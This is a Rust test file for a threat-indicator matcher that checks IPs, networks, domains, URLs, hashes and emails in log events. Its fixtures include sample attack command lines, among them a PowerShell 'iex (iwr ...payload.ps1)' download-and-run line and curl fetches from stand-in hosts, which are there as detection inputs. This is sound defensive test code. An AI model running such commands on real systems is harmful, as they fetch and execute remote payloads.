use super::*;
use canhgac_model::Severity;

fn indicator(id: Id, kind: IndicatorKind, value: &str) -> Indicator {
    Indicator {
        id,
        kind,
        value: value.to_string(),
        source: "test".to_string(),
        description: String::new(),
        severity: Severity::High,
        tags: Vec::new(),
        expires_at: None,
        created_at: Timestamp::UNIX_EPOCH,
        meta: Default::default(),
    }
}

fn set(list: &[(IndicatorKind, &str)]) -> IndicatorSet {
    IndicatorSet::new(
        list.iter()
            .enumerate()
            .map(|(i, (kind, value))| indicator(i as Id + 1, *kind, value))
            .collect(),
    )
}

fn now() -> Timestamp {
    "2026-11-26T00:00:00Z".parse().unwrap()
}

/// (indicator id, field, value) of every hit of `event`.
fn hits(set: &IndicatorSet, event: &Event) -> Vec<(Id, String, String)> {
    let mut out = Vec::new();
    set.matches_at(event, now(), &mut out);
    out.into_iter()
        .map(|h| (h.indicator.id, h.field, h.value))
        .collect()
}

fn event_with(field: &str, value: &str) -> Event {
    let mut event = Event::new(EventKind::Json, "{}");
    event.fields.push(field, value);
    event
}

fn text_hits(set: &IndicatorSet, text: &str) -> Vec<Id> {
    let mut out = Vec::new();
    set.matches_text(text, "f", now(), &mut out);
    out.into_iter().map(|h| h.indicator.id).collect()
}

#[test]
fn ip_indicators_match_v4_v6_and_mapped_addresses() {
    let s = set(&[
        (IndicatorKind::Ip, "203.0.113.5"),
        (IndicatorKind::Ip, "2001:DB8::1"),
    ]);
    assert_eq!(
        hits(&s, &event_with("DestinationIp", "203.0.113.5")),
        vec![(1, "DestinationIp".into(), "203.0.113.5".into())]
    );
    assert_eq!(text_hits(&s, "203.0.113.6"), Vec::<Id>::new());
    assert_eq!(text_hits(&s, "2001:db8:0::1"), vec![2]);
    assert_eq!(text_hits(&s, "::ffff:203.0.113.5"), vec![1]);
    assert_eq!(text_hits(&s, "[2001:db8::1]:443"), vec![2]);
    assert_eq!(text_hits(&s, "203.0.113.5:22"), vec![1]);
    // Not an address: a version number, a longer dotted number.
    assert_eq!(text_hits(&s, "version 1203.0.113.5"), Vec::<Id>::new());
    assert_eq!(text_hits(&s, "203.0.113.5.7"), Vec::<Id>::new());
}

#[test]
fn ips_embedded_in_text_are_found() {
    let s = set(&[
        (IndicatorKind::Ip, "203.0.113.5"),
        (IndicatorKind::Ip, "198.51.100.7"),
    ]);
    let mut event = Event::new(EventKind::Syslog3164, "");
    event.fields.push("program", "sshd");
    event.fields.push(
        "msg",
        "Failed password for root from 203.0.113.5 port 22 ssh2",
    );
    assert_eq!(
        hits(&s, &event),
        vec![(1, "msg".into(), "203.0.113.5".into())]
    );
    // A raw line has only its message.
    let raw = Event::new(
        EventKind::Raw,
        "conn from=198.51.100.7,to=(203.0.113.5). Done.",
    );
    let got = hits(&s, &raw);
    assert_eq!(got.len(), 2);
    assert_eq!(got[0], (2, "message".into(), "198.51.100.7".into()));
    assert_eq!(got[1].0, 1);
}

#[test]
fn syslog_message_is_scanned_when_no_field_copies_it() {
    let s = set(&[(IndicatorKind::Ip, "203.0.113.5")]);
    let mut copied = Event::new(EventKind::Syslog5424, "login from 203.0.113.5");
    copied.fields.push("msg", "login from 203.0.113.5");
    // Seen once, in the field, not again in `message`.
    assert_eq!(
        hits(&s, &copied),
        vec![(1, "msg".into(), "203.0.113.5".into())]
    );
    let mut bare = Event::new(EventKind::Syslog5424, "login from 203.0.113.5");
    bare.fields.push("program", "sshd");
    assert_eq!(
        hits(&s, &bare),
        vec![(1, "message".into(), "203.0.113.5".into())]
    );
    // EVTX: the rendered message repeats the fields and is not scanned.
    let mut evtx = Event::new(EventKind::Evtx, "Source 203.0.113.5");
    evtx.fields.push("EventID", 4625i64);
    assert!(hits(&s, &evtx).is_empty());
}

#[test]
fn cidr_edges_v4_and_v6() {
    let s = set(&[
        (IndicatorKind::Cidr, "198.51.100.0/24"),
        (IndicatorKind::Cidr, "198.51.100.128/25"),
        (IndicatorKind::Cidr, "192.0.2.9/32"),
        (IndicatorKind::Cidr, "2001:db8:abcd::/48"),
        (IndicatorKind::Cidr, "2001:db8:abcd::42/128"),
    ]);
    assert_eq!(text_hits(&s, "198.51.100.0"), vec![1]);
    assert_eq!(text_hits(&s, "198.51.100.127"), vec![1]);
    // The most specific network wins.
    assert_eq!(text_hits(&s, "198.51.100.128"), vec![2]);
    assert_eq!(text_hits(&s, "198.51.100.255"), vec![2]);
    assert_eq!(text_hits(&s, "198.51.101.0"), Vec::<Id>::new());
    assert_eq!(text_hits(&s, "198.51.99.255"), Vec::<Id>::new());
    assert_eq!(text_hits(&s, "192.0.2.9"), vec![3]);
    assert_eq!(text_hits(&s, "192.0.2.8"), Vec::<Id>::new());
    assert_eq!(text_hits(&s, "192.0.2.10"), Vec::<Id>::new());
    assert_eq!(text_hits(&s, "2001:db8:abcd:ffff::1"), vec![4]);
    assert_eq!(text_hits(&s, "2001:db8:abcd::42"), vec![5]);
    assert_eq!(text_hits(&s, "2001:db8:abce::1"), Vec::<Id>::new());
    // An IPv4 address is not inside an IPv6 network of the same bits.
    assert_eq!(text_hits(&s, "::c633:6480"), Vec::<Id>::new());
}

#[test]
fn cidr_zero_prefix_matches_every_address_of_its_family() {
    let s = set(&[
        (IndicatorKind::Cidr, "0.0.0.0/0"),
        (IndicatorKind::Cidr, "::/0"),
    ]);
    assert_eq!(text_hits(&s, "0.0.0.0"), vec![1]);
    assert_eq!(text_hits(&s, "255.255.255.255"), vec![1]);
    assert_eq!(text_hits(&s, "10.1.2.3"), vec![1]);
    assert_eq!(
        text_hits(&s, "ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff"),
        vec![2]
    );
    assert_eq!(text_hits(&s, "2001:db8::1"), vec![2]);
}

#[test]
fn ip_and_network_both_report() {
    let s = set(&[
        (IndicatorKind::Ip, "203.0.113.5"),
        (IndicatorKind::Cidr, "203.0.113.0/24"),
    ]);
    assert_eq!(text_hits(&s, "203.0.113.5"), vec![1, 2]);
}

#[test]
fn domains_match_themselves_and_subdomains_only() {
    let s = set(&[
        (IndicatorKind::Domain, "Evil.Example.COM"),
        (IndicatorKind::Domain, "bad.vn"),
    ]);
    assert_eq!(
        hits(&s, &event_with("QueryName", "a.b.EVIL.example.com")),
        vec![(1, "QueryName".into(), "a.b.evil.example.com".into())]
    );
    assert_eq!(text_hits(&s, "evil.example.com"), vec![1]);
    assert_eq!(text_hits(&s, "notevil.example.com"), Vec::<Id>::new());
    assert_eq!(text_hits(&s, "example.com"), Vec::<Id>::new());
    assert_eq!(text_hits(&s, "evil.example.com.vn"), Vec::<Id>::new());
    assert_eq!(text_hits(&s, "ping www.bad.vn."), vec![2]);
    assert_eq!(text_hits(&s, "cmd.exe /c nslookup x.bad.vn:53"), vec![2]);
    assert_eq!(
        text_hits(&s, "powershell -c iwr //cdn.bad.vn/p.ps1"),
        vec![2]
    );
}

#[test]
fn urls_match_normalised_and_their_host_as_domain() {
    let s = set(&[
        (IndicatorKind::Url, "HTTP://Evil.Example.com/payload.ps1"),
        (IndicatorKind::Domain, "evil.example.com"),
        (IndicatorKind::Url, "https://198.51.100.7:8443/x?a=1"),
    ]);
    let got = hits(
        &s,
        &event_with(
            "CommandLine",
            "powershell -c \"iex (iwr http://EVIL.example.com:80/payload.ps1)\"",
        ),
    );
    let ids: Vec<Id> = got.iter().map(|h| h.0).collect();
    assert_eq!(ids, vec![2, 1]);
    assert_eq!(got[1].2, "http://evil.example.com/payload.ps1");
    assert_eq!(
        text_hits(&s, "curl https://198.51.100.7:8443/x?a=1 -o f"),
        vec![3]
    );
    // Another path on the same host: the domain matches, the URL does not.
    assert_eq!(text_hits(&s, "http://evil.example.com/other"), vec![2]);
    assert_eq!(
        text_hits(&s, "https://198.51.100.7:8443/y"),
        Vec::<Id>::new()
    );
}

#[test]
fn hashes_match_by_length_and_in_sysmon_hashes_field() {
    let md5 = "0123456789abcdef0123456789abcdef";
    let sha1 = "0123456789abcdef0123456789abcdef01234567";
    let sha256 = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let imphash = "fedcba9876543210fedcba9876543210";
    let s = set(&[
        (IndicatorKind::Md5, md5),
        (IndicatorKind::Sha1, sha1),
        (IndicatorKind::Sha256, sha256),
        (IndicatorKind::Md5, imphash),
    ]);
    let field = format!(
        "SHA1={},MD5={},SHA256={},IMPHASH={}",
        sha1.to_uppercase(),
        md5.to_uppercase(),
        sha256.to_uppercase(),
        imphash.to_uppercase()
    );
    let got = hits(&s, &event_with("Hashes", &field));
    assert_eq!(
        got,
        vec![
            (2, "Hashes".into(), sha1.into()),
            (1, "Hashes".into(), md5.into()),
            (3, "Hashes".into(), sha256.into()),
        ]
    );
    assert_eq!(text_hits(&s, &format!("sha256:{sha256}")), vec![3]);
    // A longer hex run is not a hash of ours.
    assert_eq!(text_hits(&s, &format!("{md5}00")), Vec::<Id>::new());
}

#[test]
fn emails_match_and_their_domain_too() {
    let s = set(&[
        (IndicatorKind::Email, "Phish@Bad.example"),
        (IndicatorKind::Domain, "bad.example"),
    ]);
    assert_eq!(
        hits(&s, &event_with("from", "<PHISH@bad.example>")),
        vec![
            (1, "from".into(), "phish@bad.example".into()),
            (2, "from".into(), "bad.example".into())
        ]
    );
    assert_eq!(text_hits(&s, "other@mx.bad.example"), vec![2]);
}

#[test]
fn expired_indicators_do_not_match_and_fall_back_to_wider_networks() {
    let mut list = vec![
        indicator(1, IndicatorKind::Ip, "203.0.113.5"),
        indicator(2, IndicatorKind::Cidr, "198.51.100.0/24"),
        indicator(3, IndicatorKind::Cidr, "198.51.100.0/28"),
        indicator(4, IndicatorKind::Domain, "evil.example"),
        indicator(5, IndicatorKind::Domain, "evil.example"),
    ];
    list[0].expires_at = Some("2026-11-25T00:00:00Z".parse().unwrap());
    list[2].expires_at = Some("2026-11-25T00:00:00Z".parse().unwrap());
    list[3].expires_at = Some("2026-11-25T00:00:00Z".parse().unwrap());
    list[4].expires_at = Some("2026-11-27T00:00:00Z".parse().unwrap());
    let s = IndicatorSet::new(list);
    assert_eq!(text_hits(&s, "203.0.113.5"), Vec::<Id>::new());
    assert_eq!(text_hits(&s, "198.51.100.1"), vec![2]);
    // Two indicators with one value: only the unexpired one.
    assert_eq!(text_hits(&s, "evil.example"), vec![5]);
    let mut out = Vec::new();
    let later: Timestamp = "2026-11-28T00:00:00Z".parse().unwrap();
    s.matches_text("evil.example", "f", later, &mut out);
    assert!(out.is_empty());
}

#[test]
fn one_indicator_is_reported_once_per_event() {
    let s = set(&[(IndicatorKind::Ip, "203.0.113.5")]);
    let mut event = Event::new(EventKind::Json, "{}");
    event.fields.push("src", "203.0.113.5");
    event
        .fields
        .push("msg", "from 203.0.113.5 again 203.0.113.5");
    assert_eq!(
        hits(&s, &event),
        vec![(1, "src".into(), "203.0.113.5".into())]
    );
}

#[test]
fn lists_are_scanned_and_numbers_skipped() {
    let s = set(&[(IndicatorKind::Ip, "203.0.113.5")]);
    let mut event = Event::new(EventKind::Json, "{}");
    event.fields.push("n", 2_030_113_005i64);
    event.fields.push(
        "ips",
        FieldValue::List(vec!["10.0.0.1".into(), "203.0.113.5".into()]),
    );
    assert_eq!(
        hits(&s, &event),
        vec![(1, "ips".into(), "203.0.113.5".into())]
    );
}

#[test]
fn invalid_indicators_are_rejected_with_a_reason() {
    let s = set(&[
        (IndicatorKind::Ip, "1.2.3"),
        (IndicatorKind::Md5, "xyz"),
        (IndicatorKind::Domain, "ok.example"),
    ]);
    assert_eq!(s.len(), 1);
    assert_eq!(s.rejected().len(), 2);
    assert_eq!(s.rejected()[0].id, 1);
    assert!(
        s.rejected()[1].reason.contains("hexadecimal"),
        "{:?}",
        s.rejected()
    );
}

#[test]
fn windows_paths_and_noise_do_not_match() {
    let s = set(&[
        (IndicatorKind::Domain, "cmd.exe"),
        (IndicatorKind::Ip, "10.0.0.1"),
    ]);
    // Indicators are what they are: a "domain" cmd.exe matches a token cmd.exe.
    assert_eq!(
        text_hits(&s, "C:\\Windows\\System32\\cmd.exe /c whoami"),
        vec![1]
    );
    assert_eq!(
        text_hits(&s, "2026-11-26T10:00:00.123Z {8ab4-11} 10.0.0.10"),
        Vec::<Id>::new()
    );
    assert_eq!(text_hits(&s, ""), Vec::<Id>::new());
    assert_eq!(text_hits(&s, "\u{1F600}10.0.0.1\u{e9}"), vec![2]);
}

/// Addresses and names embedded in log-like text, checked against a scan over every indicator.
#[test]
fn random_text_agrees_with_a_scan_over_every_indicator() {
    let mut state = 0x2545_f491_4f6c_dd1du64;
    let mut next = move |n: u64| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state % n
    };
    // Dense in 10.0.0.0/16 so that texts hit, nest and collide.
    let mut list = Vec::new();
    for _ in 0..300 {
        list.push((
            IndicatorKind::Ip,
            format!("10.0.{}.{}", next(256), next(256)),
        ));
    }
    for _ in 0..200 {
        let len = [16, 20, 24, 28, 30, 32][next(6) as usize];
        list.push((
            IndicatorKind::Cidr,
            format!("10.0.{}.{}/{len}", next(256), next(256)),
        ));
    }
    let labels = ["evil", "bad", "c2", "cdn", "mail", "x"];
    let tlds = ["vn", "com", "example"];
    for _ in 0..100 {
        let name = format!(
            "{}{}.{}",
            labels[next(6) as usize],
            next(20),
            tlds[next(3) as usize]
        );
        list.push((IndicatorKind::Domain, name));
    }
    let owned: Vec<(IndicatorKind, &str)> = list.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let s = set(&owned);
    assert_eq!(s.len(), 600);
    let nets: Vec<(ipnet::Ipv4Net, Id)> = s
        .indicators()
        .iter()
        .filter(|i| i.kind != IndicatorKind::Domain)
        .map(|i| {
            let net = if i.kind == IndicatorKind::Ip {
                format!("{}/32", i.value)
            } else {
                i.value.clone()
            };
            (net.parse().unwrap(), i.id)
        })
        .collect();
    for _ in 0..3000 {
        let ip = std::net::Ipv4Addr::new(10, 0, next(256) as u8, next(256) as u8);
        let prefix = ["", "www.", "a.b.", "not"][next(4) as usize];
        let name = format!(
            "{prefix}{}{}.{}",
            labels[next(6) as usize],
            next(20),
            tlds[next(3) as usize]
        );
        let text = format!("Accepted publickey for root from {ip} port 22; resolved {name}.");
        let mut expected: Vec<Id> = s
            .indicators()
            .iter()
            .filter(|i| i.kind == IndicatorKind::Ip && i.value == ip.to_string())
            .map(|i| i.id)
            .collect();
        let most_specific_net = nets
            .iter()
            .zip(
                s.indicators()
                    .iter()
                    .filter(|i| i.kind != IndicatorKind::Domain),
            )
            .filter(|((net, _), i)| i.kind == IndicatorKind::Cidr && net.contains(&ip))
            .max_by_key(|((net, id), _)| (net.prefix_len(), *id))
            .map(|((_, id), _)| *id);
        expected.extend(most_specific_net);
        let name_lower = name.to_ascii_lowercase();
        expected.extend(
            s.indicators()
                .iter()
                .filter(|i| {
                    i.kind == IndicatorKind::Domain
                        && (name_lower == i.value || name_lower.ends_with(&format!(".{}", i.value)))
                })
                .map(|i| i.id),
        );
        expected.sort_unstable();
        let mut got = text_hits(&s, &text);
        got.sort_unstable();
        assert_eq!(got, expected, "{text}");
    }
}
